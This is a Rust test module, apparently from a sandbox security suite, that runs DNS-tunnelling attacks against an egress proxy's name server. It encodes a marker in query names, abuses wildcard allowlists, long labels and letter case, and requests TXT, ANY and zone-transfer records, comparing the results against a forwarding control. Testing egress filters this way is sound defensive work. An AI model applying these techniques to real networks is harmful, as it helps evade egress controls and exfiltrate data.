//! Attacks on the name server inside: sending data out in questions, or receiving data in answers.
//!
//! The control is an ordinary name server that forwards every question and answer.

use std::io::{self, Read, Write};
use std::net::{IpAddr, SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use egress::{DnsSockets, Egress, EgressIdentity, EgressLimits, Internet, LivePolicy, ProxyCredentials};
use futures_util::future::BoxFuture;
use policy::{BaseLayer, CeilingLayer, EffectivePolicy, PolicySource};
use protocol::SessionId;
use sandbox::SandboxPort;
use store::{MemoryJournal, SystemClock};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::task::JoinSet;

use super::{LOOT, Run};
use crate::attack::{Place, Verdict, Walls};
use crate::stage::{Stage, to_json, verdict};

const SERVER: &str = "127.0.0.1:53";
const PATIENCE: Duration = Duration::from_secs(5);
/// The policy.
const POLICY: &str =
    "version: 1\nnet: {enabled: true, dns: stub, allowlist: [files.example.com, \"*.cdn.example.com\"]}\n";

/// Name, description and function of each attack.
pub(super) const ATTACKS: &[(&str, &str, Run)] = &[
    ("proxy_names_unlisted", "carry data out in a name that is not listed", |_| ask("loot.vault.example.com", 1)),
    ("proxy_names_wildcard", "carry it out in a name below a listed wildcard", |_| ask("loot.cdn.example.com", 1)),
    ("proxy_names_long", "the same in labels as long as they may be", |_| {
        let label = format!("loot{}", "a".repeat(59));
        ask(&format!("{label}.{label}.{label}.cdn.example.com"), 1)
    }),
    ("proxy_names_text", "receive data in a TXT record", |_| ask("loot.cdn.example.com", 16)),
    ("proxy_names_any", "receive all records of a name", |_| ask("loot.files.example.com", 255)),
    ("proxy_names_transfer", "have a zone transferred", |_| ask_by_stream("loot.cdn.example.com", 252)),
    ("proxy_names_stream", "carry data out in a name asked for over TCP", |_| ask_by_stream("loot.cdn.example.com", 1)),
    ("proxy_names_upper", "the same in capital letters, listed in small ones", |_| ask("loot.CDN.Example.COM", 28)),
];

fn question(name: &str, kind: u16) -> Vec<u8> {
    let mut bytes = vec![0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        bytes.push(u8::try_from(label.len()).expect("a label"));
        bytes.extend_from_slice(label.as_bytes());
    }
    bytes.push(0);
    bytes.extend([kind.to_be_bytes(), 1u16.to_be_bytes()].concat());
    bytes
}

fn ask(name: &str, kind: u16) -> Verdict {
    let socket = UdpSocket::bind("127.0.0.1:0").expect("socket");
    socket.set_read_timeout(Some(PATIENCE)).expect("socket");
    let mut answer = [0; 600];
    let asked = socket.send_to(&question(name, kind), SERVER).and_then(|_| socket.recv(&mut answer));
    heard(asked.map(|length| answer[..length].to_vec()))
}

fn ask_by_stream(name: &str, kind: u16) -> Verdict {
    let asked = question(name, kind);
    let exchange = || -> io::Result<Vec<u8>> {
        let mut stream = TcpStream::connect(SERVER)?;
        stream.set_read_timeout(Some(PATIENCE))?;
        stream.write_all(&[&u16::try_from(asked.len()).expect("short").to_be_bytes()[..], &asked].concat())?;
        let mut length = [0; 2];
        stream.read_exact(&mut length)?;
        let mut answer = vec![0; u16::from_be_bytes(length).into()];
        stream.read_exact(&mut answer)?;
        Ok(answer)
    };
    heard(exchange())
}

/// Returns whether an answer contains more than the question and our own answer.
fn heard(answer: io::Result<Vec<u8>>) -> Verdict {
    match answer {
        Ok(bytes) if bytes.ends_with(LOOT.as_bytes()) => Verdict::Succeeded("an answer came from outside".into()),
        other => Verdict::Blocked(format!("{:?}", other.map(|bytes| bytes.len()))),
    }
}

/// Runs one attack in a sandbox with our name server, or as a control with one that forwards everything.
pub(super) fn carry_out(stage: &Stage, name: &str, place: Place) -> Verdict {
    let scene = stage.scene();
    let sandbox = stage.sandbox(Walls::Named, &scene.workspace()).expect("sandbox");
    let listener = sandbox.take_listener(SandboxPort::Egress).expect("listener");
    let (streams, datagrams) = sandbox.take_dns_sockets().expect("sockets");
    let outside = Arc::new(Outside::default());
    let mut control = JoinSet::new();
    let ours = match place {
        Place::Inside => Some(attach(stage, listener, DnsSockets { datagrams, streams }, outside.clone())),
        Place::Outside => {
            let _inside = stage.runtime.enter();
            careless(&mut control, streams, datagrams, &outside).expect("control");
            None
        }
    };
    let lead = to_json(&scene.lead(Place::Inside));
    let result = stage.exec(&*sandbox, &["__attack", name, &lead]).expect("run");
    stage.destroy(&*sandbox);
    stage.runtime.block_on(async {
        control.shutdown().await;
        if let Some(attachment) = ours {
            attachment.close().await;
        }
    });
    let arrived = outside.0.lock().expect("lock").join(", ");
    if arrived.contains(LOOT) {
        return Verdict::Succeeded(format!("arrived: {arrived}"));
    }
    verdict(name, &[result.stdout, result.stderr].concat(), None, None)
}

fn effective() -> EffectivePolicy {
    let base = BaseLayer::read(&PolicySource::new("attack", POLICY)).expect("policy");
    policy::effective(&CeilingLayer::built_in().expect("ceiling"), &base, &[])
}

fn attach(stage: &Stage, listener: TcpListener, names: DnsSockets, outside: Arc<Outside>) -> egress::EgressAttachment {
    let session = SessionId::new("attack").expect("id");
    let identity = EgressIdentity {
        session: session.clone(),
        journal: Arc::new(MemoryJournal::new(session, Arc::new(SystemClock))),
        turn: Arc::new(|| None),
        policy: LivePolicy::new(effective()),
        credentials: ProxyCredentials::default(),
        dns: Some(names),
        limits: EgressLimits::default(),
        in_flight: base::ByteBudget::new(64 << 20),
    };
    let _inside = stage.runtime.enter();
    Egress::new(outside).attach(listener, identity).expect("proxy")
}

/// The outside name server, which records every question.
#[derive(Default)]
struct Outside(Mutex<Vec<String>>);

impl Outside {
    fn hear(&self, what: &str) {
        self.0.lock().expect("lock").push(what.to_owned());
    }
}

impl Internet for Outside {
    fn resolve<'a>(&'a self, name: &'a str) -> BoxFuture<'a, io::Result<Vec<IpAddr>>> {
        self.hear(name);
        Box::pin(async { Err(io::Error::other("no such name")) })
    }

    fn is_local(&self, _: IpAddr) -> bool {
        false
    }

    fn connect(&self, address: SocketAddr) -> BoxFuture<'_, io::Result<tokio::net::TcpStream>> {
        self.hear(&address.to_string());
        Box::pin(async { Err(io::ErrorKind::ConnectionRefused.into()) })
    }
}

/// Forwards every question, and returns the answer.
fn careless(
    tasks: &mut JoinSet<()>,
    streams: TcpListener,
    datagrams: UdpSocket,
    outside: &Arc<Outside>,
) -> io::Result<()> {
    datagrams.set_nonblocking(true)?;
    streams.set_nonblocking(true)?;
    let datagrams = tokio::net::UdpSocket::from_std(datagrams)?;
    let streams = tokio::net::TcpListener::from_std(streams)?;
    let heard = outside.clone();
    tasks.spawn(async move {
        let mut bytes = [0; 600];
        while let Ok((length, asker)) = datagrams.recv_from(&mut bytes).await {
            heard.hear(&String::from_utf8_lossy(&bytes[..length]));
            let _ = datagrams.send_to(&[&bytes[..length], LOOT.as_bytes()].concat(), asker).await;
        }
    });
    let heard = outside.clone();
    tasks.spawn(async move {
        while let Ok((mut stream, _)) = streams.accept().await {
            let mut bytes = [0; 600];
            let Ok(length) = stream.read(&mut bytes).await else { continue };
            heard.hear(&String::from_utf8_lossy(&bytes[..length]));
            let _ = stream.write_all(&[&[0, 4][..], LOOT.as_bytes()].concat()).await;
        }
    });
    Ok(())
}
